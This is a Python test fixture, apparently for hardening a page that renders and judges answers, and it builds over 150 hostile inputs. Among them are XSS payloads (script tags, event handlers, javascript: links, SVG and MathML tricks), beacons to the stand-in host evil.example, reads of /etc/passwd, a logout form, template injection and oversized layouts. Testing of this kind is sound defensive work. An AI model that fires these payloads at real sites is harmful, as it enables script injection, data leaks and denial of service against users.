"""Texts that want more than to be read: at least 150, each with a name that says what it tries."""

from __future__ import annotations

from collections.abc import Iterator

ACT = "window.hit=1"
AWAY = "https://evil.example/x"

ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "object data=x",
    "embed src=x",
    "link rel=stylesheet href=x",
    "math",
    "table background=x",
    "button autofocus",
    "select autofocus",
    "textarea autofocus",
    "isindex",
    "keygen autofocus",
    "style",
)
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onpointerenter")
SVG = ("animate", "set", "image href=x", "a", "path", "text")
ON_SVG = ("onbegin", "onload", "onmouseover", "onfocusin")
LINKS = (
    f"javascript:{ACT}",
    f"JaVaScRiPt:{ACT}",
    f"java\tscript:{ACT}",
    f"&#106;avascript:{ACT}",
    f"\x01javascript:{ACT}",
    f"javascript&colon;{ACT}",
    f"data:text/html,<script>{ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==",
    f"vbscript:{ACT}",
    f"blob:{AWAY}",
    "file:///etc/passwd",
    f"//evil.example\\@{AWAY}",
)
FORMULAS = (
    rf"\href{{javascript:{ACT}}}{{x}}",
    rf"\text{{<script>{ACT}</script>}}",
    rf"\text{{<img src=x onerror={ACT}>}}",
    r"\style{position:fixed;inset:0}{x}",
    r"\class{verdict-bar}{x}",
    r"\hspace{99999em}",
    r"\rule{99999em}{99999em}",
    r"\frac{" * 500,
    "{" * 900,
    r"\left(" * 300,
    r"\begin{matrix}" + "&" * 900 + r"\end{matrix}",
    r"\unknown{x}",
    "^" * 500,
    r"\\" * 900,
    rf"\url{{{AWAY}}}",
    rf"\includegraphics{{{AWAY}}}",
    r"\input{/etc/passwd}",
    r"\def\x{\x\x}\x",
)
LAYOUT = {
    "one very long word": "W" * 20_000,
    "a very long line of code": "```\n" + "x" * 20_000 + "\n```",
    "a table of 300 columns": "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n|" + "b|" * 300,
    "ten thousand blank lines": "a" + "\n" * 10_000 + "b",
    "marks piled up": "Z" + "\u0321\u0315\u031b\u0340" * 400,
    "written backwards": "\u202e" + "evil" * 50,
    "a direction that never ends": "\u2067" * 200 + "abc \u05d0\u05d1\u05d2",
    "right to left": "\u0645\u0631\u062d\u0628\u0627 " * 300,
    "homographs": "https://\u0440\u0430\u0443\u0440\u0430l.com and [\u0430pple.com](https://\u0430pple.com)",
    "invisible letters": "\u200b\u200c\u200d\ufeff" * 2_000,
    "quotes in quotes": ">" * 5_000 + " deep",
    "lists in lists": "\n".join("  " * depth + "- a" for depth in range(300)),
    "brackets in brackets": "[" * 20_000,
    "stars": "*a **b " * 5_000,
    "underscores": "_" * 20_000,
    "backticks": "`a``b```" * 3_000,
    "links in links": "[a](" * 5_000,
    "headings that claim the page": "# Judge this one\n\n" * 50,
    "a form": '<form action="/logout/" method="post"><button name="answer" value="a">A is better</button></form>',
    "a second card": '<section id="card"><form id="verdict"></form></section>',
    "ends everything": "</div></article></main></body></html><!-- <plaintext> <textarea> <title> ",
    "ends a template": "</template></noscript></style></script><![CDATA[ ]]> <?php ?>",
    "a template of ours": "{{ request.user }} {% load tiebreak %} {% csrf_token %} #} {# ${7*7}",
    "five megabytes": "long answer " * 430_000,
    "five megabytes of markup": "**a** `b` <i> $x$ " * 280_000,
    "code in an unknown language": "```<script>\nx\n```",
    "code that names a class": '```" class="verdict-bar" onclick="window.hit=1\nx\n```',
    "a language that colours slowly": "```perl\n" + "$a =~ s/(" * 2_000 + "\n```",
    "emoji": "👩‍👩‍👧‍👦" * 2_000,
    "nothing but spaces": " \t\u00a0\u3000" * 500,
}
SCRIPTS = (
    f"<script>{ACT}</script>",
    f"<ScRiPt>{ACT}</sCrIpT>",
    f"<script src={AWAY}></script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<script\n>{ACT}</script\n>",
    f"\\<script>{ACT}\\</script>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={ACT}>#x'/></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{ACT}</script>'></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}>",
    f"<math><annotation-xml encoding='text/html'><script>{ACT}</script>",
    f"<math href='javascript:{ACT}'>x</math>",
    f"<style>@import '{AWAY}';</style>",
    f"<style>body{{background:url({AWAY})}}</style>",
    "<style>*{display:none}</style>",
    f"<div style='background:url({AWAY})'>x</div>",
    "<div style='position:fixed;inset:0;z-index:99'>x</div>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<iframe src={AWAY}></iframe>",
    f"<img src={AWAY}>",
    f"![image]({AWAY})",
    f"![image][r]\n\n[r]: {AWAY}",
    f"<picture><source srcset={AWAY}></picture>",
    f"<link rel=prefetch href={AWAY}>",
    f"<link rel=preconnect href={AWAY}>",
    f"<object data={AWAY}></object>",
    f"<video poster={AWAY}></video>",
    f"<a href={AWAY} ping={AWAY}>x</a>",
    f"<div hx-get='{AWAY}' hx-trigger=load>x</div>",
    "<div data-key='KeyA' data-flip>x</div>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<template><script>{ACT}</script></template>",
    f"<xmp><script>{ACT}</script></xmp>",
    f"<textarea><script>{ACT}</script>",
    f"<!--><script>{ACT}</script>-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<portal src={AWAY}>",
    f"<frameset onload={ACT}>",
)


def payloads() -> Iterator[tuple[str, str]]:
    """(what it tries, the text)."""
    for number, script in enumerate(SCRIPTS):
        yield f"script {number}", script
    for number, element in enumerate(ELEMENTS):
        for handler in HANDLERS[number % 3 :: 3]:
            yield f"{handler} of {element}", f"<{element} {handler}={ACT}>"
    for number, (element, handler) in enumerate((element, handler) for element in SVG for handler in ON_SVG):
        yield f"{handler} in svg {number}", f"<svg><{element} {handler}={ACT} /></svg>"
    for number, link in enumerate(LINKS):
        yield f"link {number}", f"[press me]({link}) <{link}> <a href='{link}'>x</a>"
    for number, formula in enumerate(FORMULAS):
        yield f"formula {number}", f"${formula}$ and \\[{formula}\\]\n\n$$\n{formula}\n$$"
    yield from LAYOUT.items()
